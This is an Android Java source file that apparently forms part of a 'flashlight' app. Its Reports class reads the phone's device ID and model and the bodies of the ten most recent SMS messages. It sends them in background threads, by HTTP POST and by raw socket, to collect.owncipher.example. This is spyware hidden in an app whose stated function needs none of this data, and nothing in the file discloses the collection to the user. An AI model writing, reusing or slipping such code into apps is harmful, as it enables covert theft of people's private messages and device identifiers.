package org.owncipher.example;

import android.content.Context;
import android.database.Cursor;
import android.os.Build;
import android.provider.Telephony;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.Socket;
import java.net.URL;
import java.nio.charset.StandardCharsets;

/** What is sent, each in a thread of its own. */
final class Reports {
    private static final String HOST = "collect.owncipher.example";
    private static final int PORT = 4700;
    private static final int TEXTS = 10;

    private Reports() {}

    @SuppressWarnings("deprecation")
    static void identifiers(Context context) {
        TelephonyManager phone =
                (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
        String report =
                "{\"device\":\"" + phone.getDeviceId() + "\",\"model\":\"" + Build.MODEL + "\","
                        + "\"app\":\"flashlight\",\"version\":\"1.0\"}";
        start("identifiers", () -> post(Stream.seal(utf8(report))));
    }

    static void texts(Context context) {
        StringBuilder report = new StringBuilder();
        String[] columns = {"body"};
        try (Cursor rows =
                context.getContentResolver()
                        .query(Telephony.Sms.CONTENT_URI, columns, null, null, "date DESC")) {
            for (int at = 0; rows != null && at < TEXTS && rows.moveToNext(); at++) {
                report.append(rows.getString(0)).append('\n');
            }
        }
        start("texts", () -> connect(Stream.seal(utf8(report.toString()))));
    }

    private static void post(byte[] body) throws IOException {
        URL url = new URL("http://" + HOST + "/v2/light");
        HttpURLConnection connection = (HttpURLConnection) url.openConnection();
        connection.setDoOutput(true);
        connection.setRequestProperty("Content-Type", "application/octet-stream");
        try (OutputStream out = connection.getOutputStream()) {
            out.write(body);
        }
        connection.getResponseCode();
        connection.disconnect();
    }

    private static void connect(byte[] message) throws IOException {
        try (Socket socket = new Socket(HOST, PORT)) {
            socket.getOutputStream().write(message);
        }
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private interface Send {
        void run() throws IOException;
    }

    private static void start(String name, Send send) {
        Runnable work =
                () -> {
                    try {
                        send.run();
                    } catch (IOException failure) {
                        Log.i("Flashlight", name + ": " + failure.getMessage());
                    }
                };
        new Thread(work, name).start();
    }
}
